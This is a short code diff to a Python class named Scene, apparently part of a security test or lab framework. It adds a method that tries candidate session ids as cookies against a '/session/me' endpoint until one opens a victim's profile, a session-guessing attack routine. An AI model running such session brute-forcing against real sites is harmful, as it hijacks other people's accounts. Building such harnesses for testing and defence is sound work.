@@ -167,6 +167,19 @@ class Scene:
                 return True, summary
         return False, summary
 
+    def guess(self, ids: Iterable[str]) -> tuple[bool, str, int]:
+        """Send session ids until one opens the victim's profile.
+
+        Returns whether one did, the last answer, and how many were sent.
+        """
+        client, summary, count = self.client(), "nothing was sent", 0
+        for count, one in enumerate(ids, 1):
+            answer = client.get("/session/me", headers={"Cookie": f"{self.cookie_name}={one}"})
+            summary = self.summarize(answer)
+            if self.opens(answer):
+                return True, summary, count
+        return False, summary, count
+
     def opens(self, answer: requests.Response) -> bool:
         """Return whether an answer shows the victim's own profile."""
         return answer.status_code == 200 and _user(answer) == self.target.victim.username
